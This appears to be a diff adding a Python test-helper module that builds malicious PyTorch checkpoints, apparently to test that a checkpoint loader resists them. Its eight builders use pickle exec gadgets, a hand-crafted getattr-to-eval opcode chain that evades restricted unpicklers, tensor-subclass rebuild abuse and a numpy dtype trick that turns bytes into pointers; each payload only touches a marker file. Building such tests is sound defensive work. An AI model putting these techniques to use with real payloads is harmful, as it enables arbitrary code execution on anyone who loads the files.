@@ -1,0 +1,104 @@
+"""Builders of checkpoints that would run code, or corrupt memory, where they are opened without care.
+
+Each takes a valid state dict, the file to write, and a marker: a file that exists once code has run.
+"""
+import io
+import pickle
+import struct
+import tarfile
+import zipfile
+from collections import OrderedDict
+from pathlib import Path
+
+import numpy as np
+import torch
+from mmengine.logging import HistoryBuffer
+
+
+class Call:
+    """Pickles as the call of a function."""
+
+    def __init__(self, function, *args, state=None):
+        self.reduced = (function, args) if state is None else (function, args, state)
+
+    def __reduce__(self):
+        return self.reduced
+
+
+def touch(marker: Path) -> Call:
+    return Call(exec, f'import pathlib; pathlib.Path({str(marker)!r}).touch()')
+
+
+def save(state_dict, extra, path: Path, **options) -> None:
+    torch.save(dict(extra=extra, state_dict=state_dict), path, **options)
+
+
+def builtin_call(state_dict, path: Path, marker: Path) -> None:
+    save(state_dict, touch(marker), path)
+
+
+def builtin_call_in_an_old_file(state_dict, path: Path, marker: Path) -> None:
+    save(state_dict, touch(marker), path, _use_new_zipfile_serialization=False)
+
+
+def builtin_call_in_a_tar_file(state_dict, path: Path, marker: Path) -> None:
+    """PyTorch's first format."""
+    with tarfile.open(path, 'w', format=tarfile.PAX_FORMAT) as tar:
+        for name in ('storages', 'tensors', 'pickle'):
+            data = pickle.dumps(touch(marker), protocol=2)
+            member = tarfile.TarInfo(name)
+            member.size = len(data)
+            tar.addfile(member, io.BytesIO(data))
+
+
+def chain_of_getattr(state_dict, path: Path, marker: Path) -> None:
+    """From ``getattr`` to the module builtins, whose ``type`` becomes ``eval``; BUILD then evaluates a text."""
+
+    def text(value: str) -> bytes:
+        return b'X' + struct.pack('<I', len(value.encode())) + value.encode()
+
+    def attribute(owner: bytes, name: str) -> bytes:
+        return b'cbuiltins\ngetattr\n' + owner + text(name) + b'\x86R'
+
+    code = (f'import builtins, pathlib\npathlib.Path({str(marker)!r}).touch()\ncalls = [0]\n'
+            'def fake(x):\n    calls[0] += 1\n    if calls[0] == 4: builtins.type = int.__class__\n    return set\n'
+            'builtins.type = fake')
+    module = attribute(b'cbuiltins\ngetattr\n', '__self__')
+    prelude = (attribute(module, '__dict__') + text('type') + attribute(module, 'eval') + b's'
+               + text(f'[exec({code!r}, dict()), set][1]') + b'Nb')
+    good = io.BytesIO()
+    torch.save(state_dict, good)
+    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, 'w') as target:
+        for item in source.infolist():
+            data = source.read(item)
+            if item.filename.endswith('/data.pkl'):
+                data = data[:2] + prelude + data[2:]
+            target.writestr(item.filename, data)
+
+
+def call_through_a_tensor_subclass(state_dict, path: Path, marker: Path) -> None:
+    """``_rebuild_from_type_v2`` calls what it is given."""
+    function = Call(getattr, HistoryBuffer, '__init__')
+    save(state_dict, Call(torch._tensor._rebuild_from_type_v2, function, torch.Tensor, (touch(marker),), {}), path)
+
+
+def bytes_as_objects(state_dict, path: Path, marker: Path) -> None:
+    """An array of records with an object inside and a dtype whose flags deny it: its bytes become pointers."""
+    record = Call(np.dtype, 'V8', False, True,
+                  state=(3, '|', None, ('a',), {'a': (Call(np.dtype, 'O', False, True), 0)}, 8, 1, 0))
+    reconstruct = np.zeros(1).__reduce__()[0]
+    save(state_dict, Call(reconstruct, np.ndarray, (0,), b'b', state=(1, (1,), record, False, b'\x01' * 8)), path)
+
+
+def objects_in_an_array(state_dict, path: Path, marker: Path) -> None:
+    save(state_dict, np.array([{}, touch(marker)], dtype=object), path)
+
+
+def history_without_numbers(state_dict, path: Path, marker: Path) -> None:
+    history = HistoryBuffer.__new__(HistoryBuffer)
+    history.__dict__.update(max_length=1, _log_history=OrderedDict(), _count_history=np.ones(1))
+    save(state_dict, history, path)
+
+
+ATTACKS = [builtin_call, builtin_call_in_an_old_file, builtin_call_in_a_tar_file, chain_of_getattr,
+           call_through_a_tensor_subclass, bytes_as_objects, objects_in_an_array, history_without_numbers]
